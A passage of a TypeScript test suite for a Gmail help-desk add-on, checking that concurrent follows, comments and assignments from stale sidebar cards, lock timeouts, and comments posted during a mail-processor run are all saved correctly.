    expect(queued).toMatchObject({ ticket: null, kind: 'customer', state: 'queued', author: 'erin@customer.example' });
    const sentBefore = (await desk.processor.mailbox.sent()).length;
    deliverOtherCustomerMail(desk);

    await runProcessor(desk);

    const opened = ticket(desk, 2);
    expect(opened).toMatchObject({
      subject: 'Invoice copy, please',
      customer: { name: 'Erin Young', email: 'erin@customer.example' },
      followers: [BOB],
      status: 'open',
    });
    expect(opened.recent.at(-1)?.summary).toBe('Could you send me the invoice again?');
    const sent = (await desk.processor.mailbox.sent()).slice(sentBefore);
    expect(sent.filter((message) => message.headers['x-plusdesk-ticket'] === '2')).toEqual([]);
    expect(sent.some((message) => recipients(message).includes('erin@customer.example'))).toBe(false);
    expect(messages(desk).find((record) => record.author === 'erin@customer.example')?.state).toBe('processed');
  });
});

describe('two agents on one ticket', () => {
  it('keeps both follows from the same stale card', async () => {
    const desk = await openDesk();
    const stale = gmailEvent({ parameters: { ticket: '1' } });

    const bob = actionResponse(await asAgent(desk, BOB, 'onToggleFollow', stale));
    const carol = actionResponse(await asAgent(desk, CAROL, 'onToggleFollow', stale));

    expect(bob.toast).toBe('You follow #1: you get every new message.');
    expect(carol.toast).toBe('You follow #1: you get every new message.');
    expect(labelled(carol.card, 'Followers')).toBe('Bob Chen, Carol Diaz');
    expect(followButton(carol.card)?.text).toBe('★ Following');
    expect(ticket(desk, 1).followers).toEqual([BOB, CAROL]);
  });

  it('keeps a comment and an assignment from the same stale card', async () => {
    const desk = await openDesk();
    const comment = gmailEvent({ parameters: { ticket: '1' }, formInputs: { comment: 'Checking the export job logs now.', assignee: '' } });
    const assign = gmailEvent({ parameters: { ticket: '1' }, formInputs: { comment: '', assignee: CAROL } });

    const bob = actionResponse(await asAgent(desk, BOB, 'onComment', comment));
    const carol = actionResponse(await asAgent(desk, CAROL, 'onAssign', assign));

    expect(bob.toast).toBe('Comment added to #1; the processor notifies followers and mentions.');
    expect(carol.toast).toBe('#1 is assigned to you.');
    const saved = ticket(desk, 1);
    expect(saved.assignee).toBe(CAROL);
    expect(saved.recent.at(-1)).toMatchObject({ kind: 'comment', author: BOB, summary: 'Checking the export job logs now.' });
    const latest = widgets(carol.card).find((widget) => widget.decoratedText?.topLabel === 'Bob Chen · internal comment');
    expect(latest?.decoratedText?.text).toBe('Checking the export job logs now.');
    expect(messages(desk).filter((record) => record.kind === 'comment' && record.state === 'queued')).toHaveLength(1);
  });

  it('waits out the lock of another execution', async () => {
    const desk = await openDesk();
    const event = gmailEvent({ parameters: { ticket: '1' } });
    const bobExecution = desk.addon.beginExecution('onToggleFollow (bob)', { limitMs: CALLBACK_LIMIT_MS });
    // Bob's execution is inside SidebarStore.update: it holds the add-on's script lock.
    await bobExecution.run(() => desk.addon.globals.LockService.getScriptLock().waitLock(10_000));

    const first = actionResponse(await asAgent(desk, CAROL, 'onToggleFollow', event));
    expect(first.toast).toBe('The action failed: open the message again to see the ticket as saved.');
    expect(paragraphs(first.card)[0]).toContain('Lock timeout');
    expect(ticket(desk, 1).followers).toEqual([]);

    await bobExecution.run(() => desk.addonBundle.call('onToggleFollow', event));
    bobExecution.end();
    const retried = actionResponse(await asAgent(desk, CAROL, 'onToggleFollow', event));

    expect(retried.toast).toBe('You follow #1: you get every new message.');
    expect(ticket(desk, 1).followers).toEqual([BOB, CAROL]);
  });
});

describe('sidebar during a processor run', () => {
  function deliverNewTicketMail(desk: Desk): void {
    desk.processor.mailbox.deliver(
      eml({
        headers: {
          From: 'Frank Ode <frank@other.example>',
          To: SUPPORT,
          Subject: 'Password reset link expired',
          Date: 'Mon, 02 Mar 2026 09:50:00 +0000',
          'Message-ID': '<frank.0302.0950@other.example>',
        },
        body: 'The reset link says it expired.',
      }),
    );
  }

  /** Runs the processor and posts Bob's comment right after its call number `at`. */
  async function commentDuringRun(at: number): Promise<{ desk: Desk; posted: boolean; failures: string[] }> {
    const desk = await openDesk();
    deliverNewTicketMail(desk);
    desk.processor.calls.reset();
    let posted: Promise<unknown> | undefined;
    desk.processor.calls.onCall = (_name, count) => {
      if (count !== at || posted !== undefined) return;
      posted = asAgent(desk, BOB, 'onComment', gmailEvent({ parameters: { ticket: '1' }, formInputs: { comment: `Posted after call ${at}.` } }));
    };
    try {
      await runProcessor(desk);
    } finally {
      desk.processor.calls.onCall = undefined;
    }
    await posted;
    const failures: string[] = [];
    const rows = messages(desk);
    if (rows.filter((record) => record.summary === `Posted after call ${at}.`).length !== 1) failures.push('comment row');
    if (!rows.some((record) => record.sourceId === 'frank.0302.0950@other.example' && record.kind === 'notification')) {
      failures.push('processor notification row');
    }
    if (ticket(desk, 1).recent.at(-1)?.summary !== `Posted after call ${at}.`) failures.push('ticket #1 recent');
    if (tickets(desk).length !== 2) failures.push('ticket #2');
    return { desk, posted: posted !== undefined, failures };
  }

  // NOTE: fails while the processor's save finds the end of the Messages tab with getLastRow and
  // writes there some calls later: a sidebar append in between is overwritten.
  it('keeps a comment posted at any point of a run', async () => {
    const reference = await openDesk();
    deliverNewTicketMail(reference);
    reference.processor.calls.reset();
    await runProcessor(reference);
    const total = reference.processor.calls.total();
    expect(total).toBeGreaterThan(10);

    const lost: string[] = [];
    for (let at = 1; at <= total; at++) {
      const outcome = await commentDuringRun(at);
      expect(outcome.posted).toBe(true);
      if (outcome.failures.length > 0) {
        lost.push(`after call ${at} (${reference.processor.calls.list()[at - 1]}): ${outcome.failures.join(', ')}`);
      }
    }
    expect(lost).toEqual([]);
  });
});
